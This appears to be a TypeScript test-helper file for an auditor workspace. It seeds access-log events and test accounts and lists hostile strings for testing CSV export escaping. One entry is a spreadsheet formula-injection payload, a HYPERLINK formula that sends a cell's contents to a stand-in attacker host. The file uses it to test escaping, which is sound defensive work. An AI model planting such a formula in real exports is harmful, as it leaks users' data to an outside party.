import { getDb } from "@/lib/db";
import { uid } from "./world";

// Access events written straight into the log (the application role may INSERT), with the
// times and fields a test needs, for the auditor workspace's tests.

export type EventSeed = {
  at: Date;
  actor?: { id: string; email: string; roles: string[] } | null;
  action?: string;
  outcome?: "ALLOWED" | "DENIED" | "FAILED";
  denialReason?: string | null;
  caseId?: string | null;
  conversationId?: string | null;
  accountIds?: string[];
  messageIds?: string[];
  purpose?: string | null;
  justification?: string | null;
  details?: object;
};

export async function insertEvent(e: EventSeed): Promise<bigint> {
  const row = await getDb().accessEvent.create({
    data: {
      occurredAt: e.at,
      actorId: e.actor?.id ?? null,
      actorEmail: e.actor?.email ?? null,
      actorRoles: e.actor?.roles ?? [],
      action: e.action ?? "CONTENT_READ",
      outcome: e.outcome ?? "ALLOWED",
      denialReason: e.denialReason ?? null,
      caseId: e.caseId ?? null,
      conversationId: e.conversationId ?? null,
      accountIds: e.accountIds ?? [],
      messageIds: e.messageIds ?? [],
      purpose: e.purpose ?? null,
      justification: e.justification ?? null,
      details: (e.details ?? undefined) as never,
    },
    select: { seq: true },
  });
  return row.seq;
}

/** A platform account that exists only for the test (handle is unique per run). */
export async function makeAccount(opts: { protectedKind?: string } = {}) {
  const id = uid();
  return getDb().platformAccount.create({
    data: { externalId: `ext-${id}`, handle: `acct_${id}`, displayName: `Account ${id}`, dataRegion: "US", isProtected: !!opts.protectedKind, protectedKind: opts.protectedKind ?? null },
    select: { id: true, handle: true, externalId: true },
  });
}

export const HOUR = 3_600_000;
export const DAY = 24 * HOUR;

/** Free text typed to break CSV: line breaks in cells, quotes, commas, formula starts. */
export const HOSTILE_TEXTS = [
  "reviewing the report\r\nsecond line of the note",
  'she wrote "stop", then "please stop"',
  "a, b, and c, all reported",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1 555 0100 called about the thread",
  "-2+3 looks like arithmetic",
  "@SUM(A1:A9) pasted from a sheet",
  "\tstarts with a tab",
  "\rstarts with a carriage return",
  "a lone\rcarriage return inside",
  "a lone\nline feed inside",
  "ends with a line break\r\n",
];

/** What a spreadsheet must show for a hostile cell: the same text, with a leading apostrophe if it could run. */
export const inertCell = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
